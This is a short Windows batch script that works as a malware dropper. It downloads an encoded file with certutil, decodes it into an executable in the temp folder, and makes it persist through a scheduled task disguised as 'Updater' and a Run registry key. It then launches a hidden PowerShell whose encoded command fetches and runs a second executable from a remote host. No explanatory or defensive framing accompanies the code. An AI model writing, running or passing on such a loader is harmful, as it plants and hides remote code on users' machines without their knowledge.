@echo off
certutil -urlcache -split -f http://203.0.113.9/a.txt %TEMP%\a.txt
certutil -decode %TEMP%\a.txt %TEMP%\a.exe
schtasks /create /tn Updater /tr %TEMP%\a.exe /sc onlogon
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d %TEMP%\a.exe /f
start /min powershell -nop -w hidden -EncodedCommand KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwB1AC4AZQB4AGUAJwAsACIAJABlAG4AdgA6AFQARQBNAFAAXAB1AC4AZQB4AGUAIgApADsAIABTAHQAYQByAHQALQBQAHIAbwBjAGUAcwBzACAAIgAkAGUAbgB2ADoAVABFAE0AUABcAHUALgBlAHgAZQAiAA==
